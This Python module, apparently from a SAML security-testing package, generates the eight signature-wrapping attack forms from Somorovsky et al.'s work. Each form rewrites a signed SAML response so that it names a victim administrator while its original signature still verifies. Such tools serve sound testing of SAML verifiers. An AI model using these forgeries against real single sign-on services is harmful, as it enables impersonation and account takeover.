"""The eight classic forms of signature wrapping: a signed response of Ana's, bent so that it speaks of somebody else.

After "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012), in the numbering of SAML Raider. The
first two wrap a signed response, the others a signed assertion.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from instep.saml.names import ds, saml, samlp
from instep.saml.writing import rendered

VICTIM = "admin@fabrikam.example"


def wrapped(form: int, honest: bytes) -> bytes:
    """An honest document in one of the forms, 1 to 8, with the victim's name where a careless reader looks."""
    root = etree.fromstring(honest)
    return rendered(_FORMS[form](root))


def _evil(original: etree._Element, identifier: str) -> etree._Element:
    """A copy without a signature, with another id, that names the victim."""
    copy = deepcopy(original)
    copy.tail = None
    for signature in copy.findall(ds("Signature")):
        copy.remove(signature)
    copy.set("ID", identifier)
    for name in copy.iter(saml("NameID")):
        name.text = VICTIM
    return copy


def _bare(original: etree._Element) -> etree._Element:
    """The original as it was signed, without its signature."""
    copy = deepcopy(original)
    copy.tail = None
    for signature in copy.findall(ds("Signature")):
        copy.remove(signature)
    return copy


def _signature(original: etree._Element) -> etree._Element:
    found = original.find(ds("Signature"))
    assert found is not None
    return deepcopy(found)


def _assertion(root: etree._Element) -> etree._Element:
    found = root.find(saml("Assertion"))
    assert found is not None
    return found


def _response_in_its_signature(root: etree._Element) -> etree._Element:
    evil, signature = _evil(root, "_evil-response"), _signature(root)
    signature.append(_bare(root))
    evil.insert(1, signature)
    return evil


def _response_before_its_signature(root: etree._Element) -> etree._Element:
    evil, signature = _evil(root, "_evil-response"), _signature(root)
    evil.insert(1, _bare(root))
    evil.insert(2, signature)
    return evil


def _evil_before(root: etree._Element) -> etree._Element:
    original = _assertion(root)
    original.addprevious(_evil(original, "_evil"))
    return root


def _original_in_evil(root: etree._Element) -> etree._Element:
    original = _assertion(root)
    evil = _evil(original, "_evil")
    root.replace(original, evil)
    evil.append(original)
    return root


def _evil_with_the_signature(root: etree._Element) -> etree._Element:
    original = _assertion(root)
    evil = _evil(original, "_evil")
    evil.insert(1, _signature(original))
    root.replace(original, evil)
    root.append(_bare(original))
    return root


def _original_in_the_signature(root: etree._Element) -> etree._Element:
    original = _assertion(root)
    evil, signature = _evil(original, "_evil"), _signature(original)
    signature.append(_bare(original))
    evil.insert(1, signature)
    root.replace(original, evil)
    return root


def _evil_in_extensions(root: etree._Element) -> etree._Element:
    original = _assertion(root)
    extensions = etree.Element(samlp("Extensions"))
    extensions.append(_evil(original, "_evil"))
    original.addprevious(extensions)
    return root


def _original_in_an_object(root: etree._Element) -> etree._Element:
    original = _assertion(root)
    evil, signature = _evil(original, "_evil"), _signature(original)
    etree.SubElement(signature, ds("Object")).append(_bare(original))
    evil.insert(1, signature)
    root.replace(original, evil)
    return root


_FORMS: dict[int, Callable[[etree._Element], etree._Element]] = {
    1: _response_in_its_signature,
    2: _response_before_its_signature,
    3: _evil_before,
    4: _original_in_evil,
    5: _evil_with_the_signature,
    6: _original_in_the_signature,
    7: _evil_in_extensions,
    8: _original_in_an_object,
}
